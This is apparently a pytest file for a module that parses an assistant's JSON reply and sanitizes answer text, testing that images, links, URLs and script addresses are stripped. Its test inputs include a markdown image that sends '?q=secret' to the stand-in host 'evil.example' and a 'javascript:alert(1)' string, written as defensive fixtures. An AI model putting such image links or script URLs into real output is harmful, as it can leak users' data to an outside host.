import json

import pytest

from answer.reply import Quote, parse_reply, plain_text

OBJECT = {
    "answer": "In 1931.",
    "quotes": [{"page_label": "P1", "quote": "opened in 1931"}],
    "answerable": True,
}
BARE = json.dumps(OBJECT)


@pytest.mark.parametrize(
    "text",
    [
        BARE,
        f"```json\n{BARE}\n```",
        f"Here you are:\n```\n{BARE}\n```\nI hope this helps {{really}}.",
        f"<think>the page says {{1931}}</think>{BARE}",
        f"[note] {{not json}} {BARE} thanks",
    ],
)
def test_a_reply_is_found_in_fences_and_among_prose(text: str) -> None:
    reply = parse_reply(text)

    assert reply is not None
    assert reply.answer == "In 1931."
    assert reply.quotes == (Quote("P1", "opened in 1931"),)
    assert reply.is_answerable


@pytest.mark.parametrize(
    "text", ["", "In 1931.", "{", '{"answer": 1931}', '[{"quotes": []}]', "null", "{" * 5000]
)
def test_what_is_not_the_asked_for_object_is_no_reply(text: str) -> None:
    assert parse_reply(text) is None


def test_quotes_may_be_missing() -> None:
    reply = parse_reply('{"answer": "No.", "answerable": false}')

    assert reply is not None
    assert not reply.is_answerable
    assert reply.quotes == ()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see ![x](https://evil.example/p.png?q=secret) here", "see here"),
        ("[click me](https://evil.example) now", "click me now"),
        ("[a][1]\n[1]: https://evil.example", "a"),
        ("<img src=https://evil.example/x>5 < 6", "5 < 6"),
        ("go to https://evil.example/x?y=1 today", "go to today"),
        ("a javascript:alert(1) b", "a b"),
        ("Total: [12] (net)", "Total: [12] (net)"),
    ],
)
def test_answers_are_plain_text_without_images_links_or_addresses(text: str, expected: str) -> None:
    assert plain_text(text) == expected
